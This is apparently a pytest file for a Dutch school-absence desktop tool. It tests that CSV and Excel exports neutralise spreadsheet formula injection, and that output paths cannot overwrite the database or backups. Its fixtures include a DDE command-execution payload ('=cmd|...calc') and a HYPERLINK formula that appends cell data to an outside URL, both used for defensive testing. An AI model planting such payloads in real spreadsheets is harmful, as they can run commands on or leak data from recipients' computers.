"""Output never destroys input (issue 12, item 7): services/uitvoer.py's rules and the formula-neutral exports."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from thuiszit_desktop.domain.errors import InvoerFout
from thuiszit_desktop.domain.kwartaal import Categorie, Duur, Kwartaal, KwartaalOverzicht, KwartaalRij, Status
from thuiszit_desktop.domain.spreadsheet import lijkt_formule, neutraliseer
from thuiszit_desktop.services import kwartaal_export, uitvoer


@pytest.mark.parametrize("tekst, gevaarlijk", [
    ("=1+1", True), ("+31 6 12345678", True), ("-5", True), ("@SUM(A1)", True), ("\t=1+1", True),
    ("\r=1+1", True), ("  =HYPERLINK(\"http://x\")", True), ("\uff1d1+1", True), ("\tgewoon", True),
    ("Het Baken", False), ("", False), ("3-2", False), ("Pieter-Jan", False), ("e-mail: a@b.nl", False),
])
def test_what_a_spreadsheet_would_run(tekst, gevaarlijk):
    assert lijkt_formule(tekst) is gevaarlijk
    assert neutraliseer(tekst) == ("'" + tekst if gevaarlijk else tekst)


SCHOOL = '=HYPERLINK("http://example.invalid/?"&A2,"Klik")'


def overzicht() -> KwartaalOverzicht:
    rij = KwartaalRij("TZ-ABCDE", 14, "vo", 2, Categorie.LANGDURIG_RELATIEF, date(2026, 10, 1), None, Duur.MIDDEL,
                      ("=cmd|' /C calc'!A0", "@SOM(1;2)", "-Verzuimcoach"), Status.THUISZITTEND)
    return KwartaalOverzicht(Kwartaal(2026, 4), date(2026, 12, 18), SCHOOL, (rij,))


def test_csv_cells_are_never_formulas():
    tekst = kwartaal_export.naar_csv(overzicht()).decode("utf-8-sig")
    (kop, rij) = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    assert rij[11] == "'=cmd|' /C calc'!A0, @SOM(1;2), -Verzuimcoach"  # after SWV, BRIN and school
    assert rij[2] == "'" + SCHOOL
    assert all(not lijkt_formule(cel) for cel in [*kop, *rij])


def test_xlsx_cells_are_never_formulas_the_schools_name_included():
    data = kwartaal_export.naar_xlsx(overzicht())
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        bladen = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert bladen and not any("<f>" in b or "<f " in b for b in bladen)  # no formula anywhere
    wb = load_workbook(io.BytesIO(data))
    toelichting = wb["Totalen"]["A2"]
    assert toelichting.value.startswith(SCHOOL) and toelichting.data_type == "s" and toelichting.quotePrefix
    assert wb["Overzicht"]["L2"].data_type == "s" and wb["Overzicht"]["C2"].quotePrefix


@pytest.fixture
def mappen(tmp_path: Path) -> tuple[Path, Path, Path]:
    data, backups, elders = tmp_path / "data", tmp_path / "share" / "backups", tmp_path / "Documenten"
    for m in (data, backups, elders):
        m.mkdir(parents=True)
    (data / "thuiszit.db").write_bytes(b"database")
    return data, backups, elders


def test_the_rules_one_by_one(mappen, monkeypatch):
    data, backups, elders = mappen
    beschermd = [data, backups]
    goed = uitvoer.uitvoerpad(elders / "dossier.pdf", extensies=(".pdf",), beschermd=beschermd)
    assert goed == elders / "dossier.pdf"
    for pad, fout in ((data / "thuiszit.db", "eindigen op .pdf"), (data / "dossier.pdf", "de map met de database"),
                      (backups / "x.pdf", "de map met de database of de back-ups"),
                      (elders / "geen-map" / "x.pdf", "bestaat niet"), (elders, "eindigen op .pdf")):
        with pytest.raises(InvoerFout, match=fout):
            uitvoer.uitvoerpad(pad, extensies=(".pdf",), beschermd=beschermd)
    (elders / "oud.pdf").write_bytes(b"oud")
    with pytest.raises(InvoerFout, match="bestaat al.*--overschrijven"):
        uitvoer.uitvoerpad(elders / "oud.pdf", extensies=(".pdf",), beschermd=beschermd)
    assert uitvoer.uitvoerpad(elders / "oud.pdf", extensies=(".pdf",), beschermd=beschermd, overschrijven=True)


def test_symlinks_and_case_do_not_get_round_the_data_folder(mappen, monkeypatch):
    data, backups, elders = mappen
    link = elders / "snelkoppeling"
    link.symlink_to(data, target_is_directory=True)
    with pytest.raises(InvoerFout, match="de map met de database"):
        uitvoer.uitvoerpad(link / "x.pdf", extensies=(".pdf",), beschermd=[data])
    (elders / "naar-db.pdf").symlink_to(data / "thuiszit.db")  # a file link: writing would replace the target
    with pytest.raises(InvoerFout, match="de map met de database"):
        uitvoer.uitvoerpad(elders / "naar-db.pdf", extensies=(".pdf",), beschermd=[data], overschrijven=True)
    anders = Path(str(data).upper()) / "x.pdf"
    assert not uitvoer.binnen(anders, data)  # Linux: another folder
    monkeypatch.setattr(uitvoer, "_HOOFDLETTERONGEVOELIG", True)  # Windows, macOS: the same folder
    assert uitvoer.binnen(anders, data)


def test_writing_is_atomic(mappen, monkeypatch):
    _data, _backups, elders = mappen
    doel = elders / "overzicht.pdf"
    doel.write_bytes(b"het oude bestand")

    def vol(*_a):
        raise OSError(28, "No space left on device")
    monkeypatch.setattr(os, "replace", vol)
    with pytest.raises(InvoerFout, match="de schijf is vol"):
        uitvoer.schrijf(doel, b"nieuw")
    assert doel.read_bytes() == b"het oude bestand"  # never half written, never truncated
    assert sorted(p.name for p in elders.iterdir()) == ["overzicht.pdf"]  # no temporary file left
    monkeypatch.undo()
    uitvoer.schrijf(doel, b"nieuw")
    assert doel.read_bytes() == b"nieuw"
